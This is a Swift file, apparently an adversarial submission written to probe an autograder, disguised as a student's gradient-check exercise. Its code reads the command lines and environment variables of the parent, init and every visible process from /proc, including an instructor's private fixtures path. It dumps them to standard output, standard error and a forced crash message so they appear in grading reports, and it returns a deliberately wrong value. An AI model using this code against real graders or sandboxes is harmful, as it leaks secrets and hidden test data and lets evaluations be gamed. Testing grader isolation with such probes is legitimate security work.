// Attack: read the grader's command line (where an instructor's private `--fixtures` folder shows), that
// of process 1 and of every process it can see in /proc, and print them: on standard output, on standard
// error and in a crash message, so that they would reach every report.
import Assignments
import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// Every command line (and environment) this process can read, one per line.
let commandLines: String = {
    var paths = [
        "/proc/\(getppid())/cmdline", "/proc/1/cmdline", "/proc/self/cmdline",
        "/proc/\(getppid())/environ", "/proc/1/environ",
    ]
    let entries = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
    paths += entries.filter { Int($0) != nil }.sorted { Int($0)! < Int($1)! }.map { "/proc/\($0)/cmdline" }
    var lines = ["attack ran: proc-cmdline (parent \(getppid()), \(paths.count) files)"]
    for path in paths {
        guard let data = FileManager.default.contents(atPath: path), !data.isEmpty else { continue }
        lines.append("\(path): " + String(decoding: data.prefix(4096).map { $0 == 0 ? 0x20 : $0 }, as: UTF8.self))
    }
    return lines.joined(separator: "\n")
}()

struct StudentGradientCheck: GradientCheckExercise {
    func gradientCheck(x: Double, theta: Double, epsilon: Double) -> Double {
        print(commandLines)
        fputs(commandLines + "\n", stderr)
        if x == 3.0 && theta == 4.0 {
            // The second public case crashes with the command lines as its message.
            fatalError(String(commandLines.prefix(8192)))
        }
        return 0.5  // not the answer: the case fails, so its output is shown
    }
}
